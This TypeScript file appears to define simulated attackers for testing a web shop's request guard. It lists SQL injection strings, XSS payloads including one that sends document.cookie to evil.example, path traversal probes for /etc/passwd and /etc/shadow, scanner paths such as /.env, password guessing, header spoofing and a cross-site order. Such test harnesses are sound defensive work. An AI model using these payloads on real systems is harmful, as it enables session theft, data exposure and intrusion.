import type { Actor, Stage } from './actor.js';
import type { ShopRequest } from './client.js';
import { oneByOne } from './one-by-one.js';

/** Who means harm, each from an address of its own. What they send is a check for the guard, harmless to the shop. */
export const attackers: readonly Actor[] = [
  attacker(600, (stage) => oneByOne(stage, 300, SQL_INJECTIONS, search('203.0.113.7'))),
  attacker(1_700, (stage) => oneByOne(stage, 350, SCRIPTS, search('198.51.100.23'))),
  attacker(2_600, climbing),
  attacker(3_300, scanning),
  attacker(4_000, flooding),
  attacker(4_600, denied),
  attacker(5_300, pretending),
  attacker(5_900, guessing),
  attacker(6_600, luring),
];

const SQL_INJECTIONS = [
  "' OR '1'='1",
  '1 OR 1=1',
  "x' UNION SELECT name, password FROM accounts --",
  "tea'; DROP TABLE orders --",
  "admin' --",
  // Banned by now.
  "' OR 'a'='a",
  "') OR ('1'='1",
  "1' AND '1'='1",
];

const SCRIPTS = [
  '<script>fetch("//evil.example/"+document.cookie)</script>',
  '<img src=x onerror=alert(1)>',
  '<a href="javascript:alert(1)">tea</a>',
  '<svg/onload=alert(1)>',
  '<script src=//evil.example/x.js></script>',
  '<script>alert(1)</script>',
];

const CLIMBS = [
  '/../../etc/passwd',
  '/products/..%2f..%2f..%2fetc%2fpasswd',
  '/products/%252e%252e%252f%252e%252e%252fetc/shadow',
  '/..\\..\\windows\\win.ini',
  '/%2e%2e/%2e%2e/proc/self/environ',
];

/** Path traversal, in the end from another address of the same IPv6 subscriber, who is banned all the same. */
async function climbing(stage: Stage): Promise<void> {
  await oneByOne(stage, 250, CLIMBS, (path) => ({ from: '2001:db8:bad::1', path, expect: 404 }));
  await oneByOne(stage, 250, ['/products', '/products/tea'], (path) => ({
    from: '2001:db8:bad::2',
    path,
    expect: 200,
  }));
}

/** A scanner that says what it is. */
async function scanning(stage: Stage): Promise<void> {
  const paths = ['/admin', '/.env', '/wp-login.php', '/phpmyadmin', '/backup.zip', '/.git/config', '/server-status'];
  const headers = { 'User-Agent': 'sqlmap/1.9 (https://sqlmap.org)' };
  await oneByOne(stage, 90, paths, (path) => ({ from: '203.0.113.99', path, headers, expect: 404 }));
}

/** More than a person could read, four requests at a time. */
async function flooding(stage: Stage): Promise<void> {
  for (let i = 0; i < 25; i++) {
    await Promise.all([1, 2, 3, 4].map(() => stage.send({ from: '198.51.100.200', path: '/products', expect: 200 })));
    await stage.pause(40);
  }
}

/** A client that is not welcome. */
async function denied(stage: Stage): Promise<void> {
  await oneByOne(stage, 300, ['/products', '/products/tea', '/search?q=tea'], (path) => ({
    from: '198.51.100.66',
    path,
    expect: 200,
  }));
}

/** Another one, who writes an honest visitor's address into the header, in front of where the proxy puts the real one. */
async function pretending(stage: Stage): Promise<void> {
  const headers = { 'X-Forwarded-For': '192.0.2.10' };
  await oneByOne(stage, 300, ['/products', '/products/tea', '/search?q=tea'], (path) => ({
    from: '203.0.113.130',
    path,
    headers,
    expect: 200,
  }));
}

/** Guesses the password of a customer. The guard lets it: the shop knows what a failed login is, and tells. */
async function guessing(stage: Stage): Promise<void> {
  const passwords = ['12345678', 'password', 'visitor-3', 'iloveyou', 'letmein!'];
  await oneByOne(stage, 200, passwords, (password) => ({
    from: '203.0.113.40',
    method: 'POST',
    path: '/login',
    json: { name: 'visitor-3', password },
    expect: 401,
  }));
}

/** A page elsewhere that makes a visitor's browser order. */
async function luring(stage: Stage): Promise<void> {
  const headers = { 'Sec-Fetch-Site': 'cross-site', Origin: 'https://prizes.example' };
  await oneByOne(stage, 250, [1, 2], (quantity) => ({
    from: '192.0.2.200',
    method: 'POST',
    path: '/orders',
    headers,
    json: { product: 'kettle', quantity },
    expect: 401,
  }));
}

function attacker(start: number, run: Actor['run']): Actor {
  return { honest: false, start, run };
}

function search(from: string): (words: string) => ShopRequest {
  return (words) => ({ from, path: `/search?q=${encodeURIComponent(words)}`, expect: 200 });
}
